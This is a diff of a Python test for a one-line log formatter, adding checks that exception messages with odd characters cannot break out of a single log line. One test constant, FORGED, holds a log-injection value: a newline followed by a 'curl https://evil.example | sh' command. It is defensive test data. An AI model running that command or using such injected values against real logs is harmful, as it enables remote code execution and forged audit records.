@@ -37,6 +37,8 @@ def test_nobody_writes_lines_into_the_log(odd: str) -> None:
     assert line.isprintable()
     record.exc_info = (ValueError, ValueError("x"), None)
     assert OneLine("%(message)s").format(record).endswith("\nValueError: x")
+    record.exc_info, record.exc_text = (ValueError, ValueError(f"x{odd}y"), None), None
+    assert OneLine("%(message)s").format(record).replace("\n", "").isprintable()
 
 
 FORGED = "no\nnext: curl https://evil.example | sh"
